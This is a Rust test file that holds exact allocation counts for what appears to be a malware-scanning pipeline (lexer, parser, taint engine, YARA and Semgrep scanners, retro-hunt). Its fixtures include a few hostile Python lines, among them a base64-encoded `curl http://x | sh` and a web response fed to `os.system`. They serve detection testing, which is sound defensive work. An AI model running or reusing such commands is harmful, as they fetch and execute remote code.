//! Allocation budgets of the cold path, as exact counts.
//!
//! Allocation counts repeat to the bit where timings do not, so they are
//! what a tier-1 test can hold the lexer, the parser, the taint engine,
//! the YARA scanner, a whole artifact build, the Semgrep walk and
//! RuleLLM's splitter, embedder, unit and typosquat audits and whole run
//! to. This binary installs its own counting
//! `#[global_allocator]`; each thread counts into its own thread-locals,
//! so tests running in parallel do not see each other's allocations. A `realloc` counts as one allocation of
//! its new size, as in the benchmark's counter (`benchmark/src/alloc.rs`).
//! Each allocation and its bytes are also booked to the [`Stage`] its
//! thread is in, so a budget can name
//! the step of an artifact build that broke it, and to a process-wide
//! ledger of the same stages, which is how a test reads what a hub's
//! worker threads spent.
//!
//! Every budget runs over the files of the tiny corpus and of its
//! aggressive mutants (seed 42): the front end's over their Python files,
//! the file set of the front-end golden digests, and those of
//! `FileAnalysis::build` and the YARA scanner over every file of every
//! upload, `PKG-INFO` included, and the unit audit's over every basic unit
//! of their Python files. The typosquat audit's runs over their package
//! names. RuleLLM's extraction and whole run go over the tiny corpus's
//! unique malware, as the pipeline does.

use std::alloc::{GlobalAlloc, Layout, System};
use std::borrow::Cow;
use std::cell::Cell;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::thread::LocalKey;

use corpus::{mutate_dataset, CorpusConfig, Dataset};
use dataflow::{FlowFinding, TaintSummary};
use obfuscate::EvasionProfile;
use oss_registry::Package;
use pysrc::TokenKind;
use scanhub::{
    ArtifactConfig, FileAnalysis, FileEntry, HubConfig, ScanHub, ScanRequest, Stage, Verdict,
};
use semgrep_engine::{CompiledSemgrepRules, MatchScratch, MatchSet};
use yara_engine::{CompiledRules, Scanner, StringValue};

struct Counting;

const STAGES: usize = Stage::ALL.len();

thread_local! {
    // Const-initialised and without a destructor: touching it from inside
    // the allocator neither allocates nor registers anything.
    static CALLS: Cell<u64> = const { Cell::new(0) };
    static BYTES: Cell<u64> = const { Cell::new(0) };
    static BY_STAGE: [Cell<u64>; STAGES] = const { [const { Cell::new(0) }; STAGES] };
    static BYTES_BY_STAGE: [Cell<u64>; STAGES] = const { [const { Cell::new(0) }; STAGES] };
}

/// Every thread's allocations, by stage.
static ALL_BY_STAGE: [AtomicU64; STAGES] = [const { AtomicU64::new(0) }; STAGES];

/// Held by each test that runs a hub, so that no other hub's workers book
/// into [`ALL_BY_STAGE`] while a test reads it.
static HUB: Mutex<()> = Mutex::new(());

fn record(size: usize) {
    let add = |cell: &Cell<u64>, n: u64| cell.set(cell.get() + n);
    // A thread being torn down has no slot left; its calls go uncounted.
    let _ = CALLS.try_with(|calls| add(calls, 1));
    let _ = BYTES.try_with(|bytes| add(bytes, size as u64));
    let stage = Stage::current() as usize;
    let _ = BY_STAGE.try_with(|ledger| add(&ledger[stage], 1));
    let _ = BYTES_BY_STAGE.try_with(|ledger| add(&ledger[stage], size as u64));
    ALL_BY_STAGE[stage].fetch_add(1, Ordering::Relaxed);
}

// SAFETY: every method forwards its arguments unchanged to `System`,
// which upholds the `GlobalAlloc` contract; `record` only touches a
// destructor-free thread-local and never allocates.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        record(layout.size());
        // SAFETY: the caller's obligations are passed through.
        unsafe { System.alloc(layout) }
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        record(layout.size());
        // SAFETY: the caller's obligations are passed through.
        unsafe { System.alloc_zeroed(layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        record(new_size);
        // SAFETY: the caller's obligations are passed through.
        unsafe { System.realloc(ptr, layout, new_size) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: the caller's obligations are passed through.
        unsafe { System.dealloc(ptr, layout) }
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

/// `f`'s result and the allocations this thread made while running it.
fn counted<T>(f: impl FnOnce() -> T) -> (T, u64) {
    let before = CALLS.with(Cell::get);
    let out = f();
    (out, CALLS.with(Cell::get) - before)
}

/// `f`'s result and the bytes this thread's allocations asked for while
/// running it.
fn counted_bytes<T>(f: impl FnOnce() -> T) -> (T, u64) {
    let before = BYTES.with(Cell::get);
    let out = f();
    (out, BYTES.with(Cell::get) - before)
}

/// The allocations this thread made while running `f`, by stage.
fn ledger(f: impl FnOnce()) -> [u64; STAGES] {
    ledgers(f).0
}

/// The allocations and the bytes this thread made while running `f`, by
/// stage.
fn ledgers(f: impl FnOnce()) -> ([u64; STAGES], [u64; STAGES]) {
    let read = |stages: &'static LocalKey<[Cell<u64>; STAGES]>| {
        stages.with(|ledger| ledger.each_ref().map(Cell::get))
    };
    let before = (read(&BY_STAGE), read(&BYTES_BY_STAGE));
    f();
    let after = (read(&BY_STAGE), read(&BYTES_BY_STAGE));
    (
        std::array::from_fn(|i| after.0[i] - before.0[i]),
        std::array::from_fn(|i| after.1[i] - before.1[i]),
    )
}

/// Every package of the tiny corpus and its aggressive mutants.
fn packages() -> Vec<Package> {
    let base = Dataset::generate(&CorpusConfig::tiny());
    let mutants = mutate_dataset(&base, &EvasionProfile::aggressive(), 42);
    let mut out = Vec::new();
    for dataset in [base, mutants] {
        out.extend(dataset.malware.into_iter().map(|m| m.package));
        out.extend(dataset.legit.into_iter().map(|l| l.package));
    }
    out
}

/// Every Python file of the tiny corpus and its aggressive mutants.
fn python_sources() -> Vec<String> {
    let mut out = Vec::new();
    for package in packages() {
        for file in package.files().iter().filter(|f| f.path.ends_with(".py")) {
            out.push(file.contents.clone());
        }
    }
    out
}

/// Every file of every upload of the tiny corpus and its aggressive
/// mutants, as the hub receives them.
fn upload_entries() -> Vec<FileEntry> {
    let requests = packages()
        .iter()
        .map(ScanRequest::from_package)
        .collect::<Vec<_>>();
    requests.iter().flat_map(|r| r.files().to_vec()).collect()
}

/// The serving-scale generated rulesets, YARA and Semgrep: rules from a
/// 64-package population, whose regex strings are one base64 pattern.
fn serving_rules() -> &'static (CompiledRules, CompiledSemgrepRules) {
    static RULES: OnceLock<(CompiledRules, CompiledSemgrepRules)> = OnceLock::new();
    RULES.get_or_init(|| {
        let training = Dataset::generate(&CorpusConfig {
            seed: 42,
            malware_unique: 64,
            malware_total: 64,
            legit_total: 0,
        });
        let generated = eval::experiments::run_rulellm(&training, rulellm::PipelineConfig::full());
        eval::experiments::compile_output(&generated)
    })
}

/// A scanner that has already scanned every one of `entries`.
fn warmed_scanner(entries: &[FileEntry]) -> Scanner<'static> {
    let scanner = Scanner::new(&serving_rules().0);
    for entry in entries {
        scanner.collect_hits(entry.bytes());
    }
    scanner
}

/// Tokens borrow the source: a lex allocates its output vector, plus
/// one buffer per string literal whose value differs from its bytes.
#[test]
fn a_lex_allocates_its_token_vector_and_owned_literals_only() {
    let (mut files, mut owned_total) = (0usize, 0u64);
    for src in python_sources() {
        let (tokens, calls) = counted(|| pysrc::lex_spanned(&src));
        let owned = tokens
            .iter()
            .filter(|t| {
                matches!(
                    t.kind(),
                    TokenKind::Str {
                        value: Cow::Owned(_),
                        ..
                    }
                )
            })
            .count() as u64;
        assert_eq!(calls, 1 + owned, "{src:?}");
        files += 1;
        owned_total += owned;
    }
    // Vacuity guard: the corpus has escapes and non-ASCII literals.
    assert!(
        files > 100 && owned_total > 0,
        "{files} files, {owned_total} owned"
    );
}

/// A lex writes its tokens into the buffer its thread keeps, so once a
/// first pass has grown that buffer, lexing every file of the corpus
/// allocates nothing.
#[test]
fn a_warm_lex_allocates_nothing() {
    let sources = python_sources();
    for src in &sources {
        pysrc::lex(src);
    }
    let mut tokens = 0usize;
    for src in &sources {
        let (n, calls) = counted(|| pysrc::lex(src).len());
        assert_eq!(calls, 0, "{src:?}");
        tokens += n;
    }
    // Vacuity guard.
    assert!(
        sources.len() > 100 && tokens > 100_000,
        "{} files, {tokens} tokens",
        sources.len()
    );
}

/// `parse_module` over the corpus stays within the 3 132 allocations it
/// was measured at: per file, one copy of the text, one `LineIndex`, the
/// top-level ids and marks, and one buffer per non-empty array of the
/// tree (owned literal values and `Other` renderings share one). The lex
/// allocates nothing: the lexer and the parser build in buffers they keep
/// per thread, grown here by a first pass, so that count does not depend
/// on what ran on the thread before. It made 4 470 while each lex
/// allocated its token vector and each literal value that differs from
/// its bytes (1 338 of them), 210 921 at commit 3628db6, when the tree
/// was boxed and allocated its boxes, vectors and strings per node, and
/// 434 766 when it also owned every name as a `String`.
#[test]
fn a_parse_allocates_its_tree_not_its_text() {
    const BUDGET: u64 = 3_132;
    let sources = python_sources();
    // Grow this thread's parse arrays first, whatever ran on it before.
    for src in &sources {
        pysrc::parse_module(src);
    }
    let mut total = 0u64;
    for src in &sources {
        total += counted(|| pysrc::parse_module(src)).1;
    }
    println!("parse_module made {total} allocations");
    assert!(total <= BUDGET, "parse_module made {total} allocations");
}

/// A parse allocates exactly the module it returns: over every Python
/// file, the bytes `parse_module` asks for are the module's
/// `heap_bytes()` plus the header of its text's `Arc<str>` (two counts,
/// the whole padded to a word). So the module part of the hub's
/// `artifact_bytes_resident` gauge, which sums `heap_bytes()`, falls short
/// of what was allocated only by that header; an array grown past its
/// final length, or a buffer the parse frees, would break the equality.
/// The first pass grows this thread's parse arrays.
#[test]
fn a_parse_allocates_exactly_the_bytes_its_module_books() {
    let sources = python_sources();
    for src in &sources {
        pysrc::parse_module(src);
    }
    let word = std::mem::size_of::<usize>();
    let mut total = 0u64;
    for (i, src) in sources.iter().enumerate() {
        let (module, bytes) = counted_bytes(|| pysrc::parse_module(src));
        let arc = (2 * word + src.len()).next_multiple_of(word);
        let booked = module.heap_bytes() - src.len() + arc;
        assert_eq!(bytes, booked as u64, "file {i}, {} bytes", src.len());
        total += bytes;
    }
    println!(
        "parse_module allocated {total} bytes over {} files",
        sources.len()
    );
}

/// A string table allocates exactly the buffers it books, so the table's
/// share of `FileAnalysis::stored_bytes` is exact. Over every Python file,
/// `StringTable::of` on a thread whose interner a first pass grew makes at
/// most three allocations — its values' buffer, their end offsets and its
/// refs — whose bytes are its `heap_bytes()`; and a splice that inserts
/// a statement in front of each file's first clean cut point books
/// exactly its spliced table's bytes to the `Intern` step. While each distinct value was its own `String`, a table
/// made one allocation per value and `stored_bytes` guessed 24 bytes of
/// header for each.
#[test]
fn a_string_table_allocates_exactly_the_bytes_it_books() {
    let sources = python_sources();
    let intern = |src: &str| {
        let tokens = pysrc::lex(src);
        counted(|| counted_bytes(|| pysrc::StringTable::of(src, &tokens)))
    };
    for src in &sources {
        intern(src);
    }
    for (i, src) in sources.iter().enumerate() {
        let ((table, bytes), calls) = intern(src);
        assert!(calls <= 3, "file {i}: {calls} allocations");
        assert_eq!(bytes, table.heap_bytes() as u64, "file {i}");
    }

    let config = ArtifactConfig {
        max_decode_depth: 0,
        dataflow: false,
    };
    let bumps: Vec<(FileAnalysis, FileEntry)> = sources
        .iter()
        .filter_map(|src| {
            let entry = |code: String| FileEntry::new("mod.py", code.into_bytes());
            let donor = FileAnalysis::build(&entry(src.clone()), None, &config);
            let clean = |c: &&pysrc::CutPoint| {
                src[c.newline_end..c.at].trim().is_empty() && !src[c.at..].starts_with('_')
            };
            let at = donor.cut_points.iter().find(clean)?.at;
            let bumped = format!("{}__version__ = 'x'\n{}", &src[..at], &src[at..]);
            Some((donor, entry(bumped)))
        })
        .collect();
    let splice = |(donor, bumped): &(FileAnalysis, FileEntry)| {
        let mut spliced = None;
        let (_, bytes) = ledgers(|| {
            spliced = FileAnalysis::build_spliced(bumped, donor, None, &config);
        });
        spliced.map(|s| {
            (
                s.analysis.strings.heap_bytes(),
                bytes[Stage::Intern as usize],
            )
        })
    };
    for bump in &bumps {
        splice(bump);
    }
    let mut spliced = 0;
    for (i, bump) in bumps.iter().enumerate() {
        if let Some((booked, bytes)) = splice(bump) {
            assert_eq!(bytes, booked as u64, "file {i}'s splice");
            spliced += 1;
        }
    }
    println!("{spliced} of {} files spliced", sources.len());
    assert!(spliced * 2 > sources.len(), "only {spliced} files spliced");
}

/// A warm `dataflow::analyze` allocates the summary it returns and
/// nothing else: over the corpus, exactly as many allocations as a deep
/// copy of the summaries takes (a clone shares each flow; the copy puts
/// each into a handle of its own), none for a module whose summary is
/// empty, and the
/// same count for a module of 40 call statements as for one of 320. The
/// engine builds in scratch its thread keeps, grown here by a first pass.
/// It made 70 026 allocations over these files when each call collected
/// its argument values in a fresh vector, each binding copied its taint
/// chain and each fold built its own string; 181 247 while it re-lexed and
/// re-parsed every block header's rendered text; and 589 277 at commit
/// 705df2b, which cloned every constant it evaluated, cloned the whole
/// scope at each `def` and lexed every header into owned token text.
#[test]
fn the_taint_engine_stays_within_its_allocation_budget() {
    let modules: Vec<pysrc::Module> = python_sources()
        .iter()
        .map(|src| pysrc::parse_module(src))
        .collect();
    for module in &modules {
        dataflow::analyze(module);
    }
    let (mut total, mut empty) = (0u64, 0usize);
    for module in &modules {
        let (summary, calls) = counted(|| dataflow::analyze(module));
        let (_, own) = counted(|| deep_copy(&summary));
        assert_eq!(calls, own, "{summary:?}");
        total += calls;
        empty += usize::from(calls == 0);
    }
    println!(
        "analyze made {total} allocations over {} modules, none for {empty}",
        modules.len()
    );
    // Vacuity guard: some summaries are empty and some are not.
    assert!(
        empty > 0 && total > 0,
        "{empty} empty summaries, {total} allocations"
    );
    let calls = |n: usize| {
        let mut src = String::from("import os, requests\nc = requests.get('http://x').text\n");
        src.push_str(&"os.system(c + 'x')\n".repeat(n));
        let module = pysrc::parse_module(&src);
        dataflow::analyze(&module);
        counted(|| dataflow::analyze(&module)).1
    };
    assert_eq!(calls(40), calls(320));
}

/// `summary` with every flow copied into a handle of its own, as
/// `dataflow::analyze` builds it.
fn deep_copy(summary: &TaintSummary) -> TaintSummary {
    TaintSummary {
        flows: summary
            .flows
            .iter()
            .map(|flow| Arc::new(FlowFinding::clone(flow)))
            .collect(),
        folded: summary.folded.clone(),
    }
}

/// A thread keeps its token buffer, its parse arrays, its taint scratch
/// and its decode scratch between calls unless a call grew them past
/// 4 MiB; then they are freed, and the next call allocates them again.
/// The large decode is a base64 literal of a Python payload whose one
/// literal is 2.5 MiB: the decoder queues that literal and the payload,
/// over 5 MiB of text, while the file's own string table and the lexer's
/// buffer stay under the limit.
#[test]
fn a_scratch_grown_past_four_mib_is_freed() {
    let small = "import os\nx = input()\nos.system(x)\n";
    let big: String = (0..100_000).map(|i| format!("v{i} = w{i}\n")).collect();
    let lex = |src: &str| counted(|| pysrc::lex(src).len()).1;
    lex(small);
    let warm = lex(small);
    lex(&big);
    assert!(lex(small) > warm, "the token buffer was kept");
    assert_eq!(lex(small), warm);

    let parse = |src: &str| counted(|| pysrc::parse_module(src)).1;
    parse(small);
    let warm = parse(small);
    parse(&big);
    assert!(parse(small) > warm, "the parse arrays were kept");
    assert_eq!(parse(small), warm);

    let (small, big) = (pysrc::parse_module(small), pysrc::parse_module(&big));
    let analyze = |module: &pysrc::Module| counted(|| dataflow::analyze(module)).1;
    analyze(&small);
    let warm = analyze(&small);
    analyze(&big);
    assert!(analyze(&small) > warm, "the taint scratch was kept");
    assert_eq!(analyze(&small), warm);

    let config = ArtifactConfig {
        max_decode_depth: 2,
        dataflow: false,
    };
    let encoded = |payload: &str| {
        let code = format!("p = '{}'\n", digest::base64::encode(payload.as_bytes()));
        FileEntry::new("mod.py", code.into_bytes())
    };
    // Letters and spaces: a literal that is no payload itself.
    let letters = (0..5u64 << 19).map(|i| b" abcdefghijklmnopqrstuvwxyz"[(i * i % 27) as usize]);
    let literal = String::from_utf8(letters.collect()).expect("ascii");
    let (small, big) = (
        encoded("import os\nos.system('curl http://x | sh')\n"),
        encoded(&format!("x = '{literal}'\n")),
    );
    let build = |entry: &FileEntry| {
        let (analysis, calls) = counted(|| FileAnalysis::build(entry, None, &config));
        assert_eq!(analysis.layers.len(), 1, "{} layers", analysis.layers.len());
        calls
    };
    build(&small);
    let warm = build(&small);
    build(&big);
    assert!(build(&small) > warm, "the decode scratch was kept");
    assert_eq!(build(&small), warm);
}

/// A warmed scanner keeps its offset scratch and its regex machines, so
/// `collect_hits` allocates only the `FileHits` it returns, and books
/// them exactly: over every upload file and every decoded layer, it makes
/// no allocation for a unit with no hit and two for a unit with hits (its
/// slot array and its offset array), and allocates exactly
/// `FileHits::stored_bytes()`. While each slot that hit had its own
/// offset vector, a unit made one allocation per such slot plus one.
#[test]
fn hits_are_booked_exactly() {
    let entries = upload_entries();
    let config = ArtifactConfig::default();
    let mut units: Vec<Vec<u8>> = Vec::new();
    for entry in &entries {
        units.push(entry.bytes().to_vec());
        let analysis = FileAnalysis::build(entry, None, &config);
        units.extend(analysis.layers.into_iter().map(|l| l.data));
    }
    let scanner = Scanner::new(&serving_rules().0);
    for unit in &units {
        scanner.collect_hits(unit);
    }
    let (mut units_hit, mut slots) = (0usize, 0usize);
    for (i, unit) in units.iter().enumerate() {
        let ((hits, bytes), calls) = counted(|| counted_bytes(|| scanner.collect_hits(unit)));
        let expected = if hits.is_empty() { 0 } else { 2 };
        assert_eq!(calls, expected, "unit {i} ({} hits)", hits.hit_count());
        assert_eq!(bytes, hits.stored_bytes() as u64, "unit {i}");
        units_hit += usize::from(!hits.is_empty());
        slots += (hits.stored_bytes() - 4 * hits.hit_count()) / 8;
    }
    println!(
        "{units_hit} of {} units hit, across {slots} string slots",
        units.len()
    );
    // Vacuity guard: layers were scanned, the regex and the literal
    // passes both found strings, and units hit in several slots.
    assert!(units.len() > entries.len(), "no decoded layer");
    assert!(units_hit > entries.len() / 4, "{units_hit} units hit");
    assert!(slots > units_hit, "{slots} slots hit");
}

/// `FileAnalysis::build` with a warmed scanner, over every upload file,
/// stays within its budget: 12 997 for the lex, parse, intern, decode,
/// taint and YARA passes of every file together, its token buffer, parse
/// arrays, taint scratch and decode scratch grown by a first pass as the
/// scanner is warmed. It makes 11 820: 11 769, plus the `Arc` of each of
/// the 51 taint flows, which a verdict's flow record shares. While each hit set held one
/// offset vector per string slot that hit, and the decoder allocated its
/// work lists and copied each text it queued and each folded constant,
/// the same builds made 19 008 (the budget was 31 023); while each lex
/// allocated its token vector and owned literal values, 32 727; while the
/// taint engine allocated per call, binding and fold, 98 517; with a boxed tree
/// as well (commit 3628db6),
/// 304 968; and at commit 05c0f47, where each scan unit also got a fresh
/// offset scratch, Pike VM and lazy DFA and the decoder cloned every
/// literal into its queue, 369 384.
#[test]
fn an_artifact_build_stays_within_its_allocation_budget() {
    const BUDGET: u64 = 12_997;
    let entries = upload_entries();
    let scanner = warmed_scanner(&entries);
    let config = ArtifactConfig::default();
    for entry in &entries {
        FileAnalysis::build(entry, Some(&scanner), &config);
    }
    let mut total = 0u64;
    for entry in &entries {
        total += counted(|| FileAnalysis::build(entry, Some(&scanner), &config)).1;
    }
    println!(
        "FileAnalysis::build made {total} allocations over {} files",
        entries.len()
    );
    assert!(
        total <= BUDGET,
        "FileAnalysis::build made {total} allocations"
    );
}

/// A splice copies each of the donor's arrays in slices, so a one-line
/// bump allocates per array, not per statement: onto a donor of 40
/// literal-free statements and onto one of 320, it makes the same number
/// of allocations. When the splice cloned the donor's statements one by
/// one (commit 3628db6), assembling the module grew with the donor.
#[test]
fn a_splice_allocates_per_array_not_per_statement() {
    let config = ArtifactConfig {
        max_decode_depth: 0,
        dataflow: false,
    };
    let splice = |n: usize| {
        let code = |bump: &str| -> Vec<u8> {
            let line = |i: usize| format!("v{i} = w{i}{}\n", if i == n / 2 { bump } else { "" });
            (0..n).map(line).collect::<String>().into_bytes()
        };
        let donor = FileAnalysis::build(&FileEntry::new("mod.py", code("")), None, &config);
        let bumped = FileEntry::new("mod.py", code("x"));
        let (spliced, calls) =
            counted(|| FileAnalysis::build_spliced(&bumped, &donor, None, &config));
        assert!(spliced.is_some(), "a {n}-statement donor fell back");
        calls
    };
    let (small, large) = (splice(40), splice(320));
    println!("a splice made {small} allocations onto 40 statements, {large} onto 320");
    assert_eq!(small, large);
}

/// A warm Semgrep walk, `MatchSet::match_module_set_into` with one reused
/// `MatchScratch` and one reused findings buffer, stays within the
/// allocations it was measured at over every Python module of the
/// corpus: 730 for 3 810 leaf tests and 365 findings, which are the
/// findings' rule ids and messages. The leaf tests bind metavariables in
/// an inline undo log and each rule's lines land in one buffer the
/// scratch keeps. While each leaf test collected the target's
/// expressions in a list and cloned a map of bindings at each argument,
/// and each matching rule got its own line list, the same walk made
/// 14 157; parsing a leaf's pattern again at each test makes 48 417.
#[test]
fn a_warm_semgrep_walk_stays_within_its_allocation_budget() {
    const BUDGET: u64 = 730;
    let set = MatchSet::new(&serving_rules().1);
    let modules: Vec<pysrc::Module> = python_sources()
        .iter()
        .map(|src| pysrc::parse_module(src))
        .collect();
    let (mut scratch, mut findings) = (MatchScratch::new(), Vec::new());
    let mut walk = |module: &pysrc::Module| {
        findings.clear();
        set.match_module_set_into(module, |_| true, &mut scratch, &mut findings);
        findings.len()
    };
    // Grow the scratch's per-leaf slots and the buffer first.
    for module in &modules {
        walk(module);
    }
    let (mut total, mut found) = (0u64, 0usize);
    for module in &modules {
        let (n, calls) = counted(|| walk(module));
        total += calls;
        found += n;
    }
    println!(
        "the Semgrep walk made {total} allocations over {} modules, {found} findings",
        modules.len()
    );
    // Vacuity guard: the generated rules match the corpus.
    assert!(
        modules.len() >= 100 && found > 0,
        "{} modules, {found} findings",
        modules.len()
    );
    assert!(total <= BUDGET, "the Semgrep walk made {total} allocations");
}

/// Prints the stages `spent` booked allocations to, then asserts each
/// stays within its budget (0 for a stage `budgets` does not name),
/// naming the stage that did not.
fn check_ledger(what: &str, spent: [u64; STAGES], budgets: &[(Stage, u64)]) {
    let steps = Stage::ALL.into_iter().zip(spent);
    let booked: Vec<_> = steps.clone().filter(|(_, n)| *n > 0).collect();
    println!("{what}: {booked:?}");
    for (stage, spent) in steps {
        let budget = budgets.iter().find(|b| b.0 == stage).map_or(0, |b| b.1);
        assert!(
            spent <= budget,
            "{what}: the {stage:?} step made {spent} allocations, over its budget of {budget}"
        );
    }
}

/// The allocations of one cold package's artifact builds and of one
/// one-line splice, each booked to the build step it was made in, stay
/// within that step's budget; a failure names the step. Scanner, token
/// buffer, parse arrays, taint scratch and decode scratch are warmed
/// first, as a worker's are, so neither lex allocates, and a decode that
/// finds no layer allocates nothing. Cold, the taint step allocates only
/// the package's summaries, 9 with its one flow's `Arc` (8 before flows
/// were shared handles); a splice re-runs it, and the decode and hits
/// steps, over the whole file. The hits step allocates each unit's two
/// hit arrays; the budgets were `Decode` 5 and `Hits` 17 cold, 3 and 5
/// for the splice, while a hit set held one offset vector per string
/// slot and the decoder allocated its work lists per call. The `Parse`
/// step's bytes are pinned
/// exactly: 28 945 cold and 8 176 for the splice, mostly the modules'
/// statement and expression arrays. They were 40 689 and 12 128 while a
/// statement took 56 bytes and an expression 32, so a wider node fails
/// here before the benchmark sees it.
#[test]
fn each_build_step_stays_within_its_allocation_budget() {
    let entries = upload_entries();
    let scanner = warmed_scanner(&entries);
    let config = ArtifactConfig::default();
    for entry in &entries {
        FileAnalysis::build(entry, Some(&scanner), &config);
    }
    let package = ScanRequest::from_package(&packages()[0]);
    let (cold, cold_bytes) = ledgers(|| {
        for entry in package.files() {
            FileAnalysis::build(entry, Some(&scanner), &config);
        }
    });
    check_ledger(
        "a cold package",
        cold,
        &[
            (Stage::Parse, 22),
            (Stage::Intern, 6),
            (Stage::Decode, 0),
            (Stage::Taint, 9),
            (Stage::Hits, 2),
            (Stage::Assemble, 3),
        ],
    );

    let code = |bump: &str| -> Vec<u8> {
        let line = |i: usize| {
            format!(
                "v{i} = os.getenv('K{i}'){}\n",
                if i == 20 { bump } else { "" }
            )
        };
        let body: String = (0..40).map(line).collect();
        (body + "os.system(v20)\n").into_bytes()
    };
    let donor = FileAnalysis::build(&FileEntry::new("mod.py", code("")), Some(&scanner), &config);
    let bumped = FileEntry::new("mod.py", code(" + 'x'"));
    let (splice, splice_bytes) = ledgers(|| {
        let spliced = FileAnalysis::build_spliced(&bumped, &donor, Some(&scanner), &config);
        assert!(spliced.is_some(), "the splice fell back");
    });
    check_ledger(
        "a one-line splice",
        splice,
        &[
            (Stage::Parse, 9),
            (Stage::Intern, 4),
            (Stage::Decode, 0),
            (Stage::Taint, 9),
            (Stage::Hits, 2),
            (Stage::Assemble, 2),
        ],
    );
    let parse = |bytes: [u64; STAGES]| bytes[Stage::Parse as usize];
    println!(
        "the Parse step allocated {} bytes cold, {} in the splice",
        parse(cold_bytes),
        parse(splice_bytes)
    );
    assert_eq!(parse(cold_bytes), 28_945, "a cold package's Parse bytes");
    assert_eq!(
        parse(splice_bytes),
        8_176,
        "a one-line splice's Parse bytes"
    );
}

/// The allocations of one retro-hunt and of its exhaustive rescan, each
/// booked to the stage it was made in, stay within that stage's budget;
/// a failure names the stage. A one-worker hub over the serving rules
/// holds every upload of the corpus and its mutants; the deployment adds
/// a YARA atom rule, a regex-only YARA rule (full candidacy) and a
/// Semgrep rule to that bundle. No upload touched the retro index, so
/// the first hunt books indexing the whole history to `RetroSync`, its
/// index query to `RetroQuery`, each confirm scan to `RetroConfirm`, and
/// the evaluator's construction and the report's assembly to `Idle`; the
/// rescan that follows lists the residents from the store, reading no
/// index, and queries none. A second
/// deployment adds one rule whose only string is the live bundle's
/// base64 regex: its hunt reads the artifacts' cached hits, so its
/// confirm scans allocate fewer than its byte-reading rescan's.
#[test]
fn a_retro_hunt_stays_within_its_allocation_budget() {
    let _hub = HUB.lock().unwrap_or_else(|e| e.into_inner());
    let (live_yara, live_semgrep) = serving_rules();
    let hub = ScanHub::new(
        Some(live_yara.clone()),
        Some(live_semgrep.clone()),
        HubConfig {
            workers: 1,
            ..HubConfig::default()
        },
    );
    for package in packages() {
        hub.submit(ScanRequest::from_package(&package)).wait();
    }
    let (mut yara, mut semgrep) = (live_yara.clone(), live_semgrep.clone());
    let added = yara_engine::compile(
        r#"
rule hunt_atom { strings: $a = "subprocess" condition: $a }
rule hunt_regex { strings: $r = /[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}/ condition: $r }
"#,
    )
    .expect("new YARA rules compile");
    yara.rules.extend(added.rules);
    let added = semgrep_engine::compile(
        "rules:\n  - id: hunt-exec\n    languages: [python]\n    message: m\n    pattern: exec($X)\n",
    )
    .expect("new Semgrep rule compiles");
    semgrep.rules.extend(added.rules);
    let deployment = hub.deploy_rules(Some(yara), Some(semgrep));
    let changed: Vec<&str> = deployment
        .delta
        .changed
        .iter()
        .map(|c| c.name.as_str())
        .collect();
    assert_eq!(changed, ["hunt_atom", "hunt_regex", "hunt-exec"]);

    let mut hunt = None;
    let spent = ledger(|| hunt = hub.retro_hunt(&deployment));
    let hunt = hunt.expect("retro index enabled");
    // While each finding copied its rule name and the layer findings each
    // copied the digest's hex, RetroConfirm was 189, and 200 for the hunt
    // reusing the live regex, whose rescan made 494 (budget 570).
    // While each candidate digest's mask was two vectors of its own in a
    // map, the budgets were RetroQuery 648 and RetroConfirm 212, and the
    // rescan's Idle 685; while each hit set held an offset vector per
    // slot, RetroConfirm was 191. While every confirm scan rendered its
    // digest's hex, the same hunt made RetroConfirm 488; while the evaluator collected findings and
    // string matches to keep only their names, 660; while the confirm
    // scan kept its own evaluation path, per-rule digest sets and name
    // map, RetroQuery 648, RetroConfirm 1 023 and Idle 39. Idle was 68
    // while the scanner built a second, case-insensitive literal matcher.
    // The RetroSync allocations were the uploads' while each publish
    // indexed its artifact.
    check_ledger(
        "a retro-hunt",
        spent,
        &[
            (Stage::RetroSync, 94),
            (Stage::RetroQuery, 37),
            (Stage::RetroConfirm, 156),
            (Stage::Idle, 65),
        ],
    );
    let mut rescan = None;
    let spent = ledger(|| rescan = hub.retro_rescan(&deployment));
    let rescan = rescan.expect("retro index enabled");
    // RetroConfirm 488 and Idle 689, 660 before that, and 1 023 with
    // Idle 657 before that; Idle 688 with two literal matchers.
    check_ledger(
        "its rescan",
        spent,
        &[(Stage::RetroConfirm, 156), (Stage::Idle, 71)],
    );

    // Vacuity guards: the atom rules pruned, the regex-only rule fell
    // back to every digest, and every new rule confirmed hits, as in the
    // rescan.
    assert!(hunt.same_hits(&rescan), "hunt ≡ rescan");
    assert_eq!(hunt.full_candidacy_rules, 1);
    assert_eq!(hunt.confirm_scans, hunt.digests_indexed);
    assert!(hunt.rules[0].candidates < hunt.digests_indexed);
    assert!(hunt.rules[2].candidates < hunt.digests_indexed);
    for rule in &hunt.rules {
        assert!(!rule.digests.is_empty(), "{} confirmed nothing", rule.rule);
    }

    // A rule whose only string is the live bundle's base64 regex reads
    // every digest's cached hits and no byte; its rescan collects them
    // all again.
    let mut strings = live_yara.rules.iter().flat_map(|cr| &cr.rule.strings);
    let blob = strings
        .find_map(|s| match &s.value {
            StringValue::Regex { pattern, .. } if pattern.contains("{10,}") => Some(pattern),
            _ => None,
        })
        .expect("the live bundle has the base64 regex");
    let mut yara = live_yara.clone();
    let blob = blob.replace('/', "\\/");
    let source = format!("rule hunt_blob {{ strings: $r = /{blob}/ condition: #r >= 2 }}");
    let added = yara_engine::compile(&source).expect("the reusing rule compiles");
    yara.rules.extend(added.rules);
    let deployment = hub.deploy_rules(Some(yara), Some(live_semgrep.clone()));
    let mut hunt = None;
    let hunt_spent = ledger(|| hunt = hub.retro_hunt(&deployment));
    let hunt = hunt.expect("retro index enabled");
    // RetroQuery 323, and Idle 399 in its rescan, with a mask per digest;
    // Idle 81, and 403 in its rescan, with two literal matchers.
    check_ledger(
        "a hunt reusing the live regex",
        hunt_spent,
        &[
            (Stage::RetroQuery, 20),
            (Stage::RetroConfirm, 137),
            (Stage::Idle, 77),
        ],
    );
    let mut rescan = None;
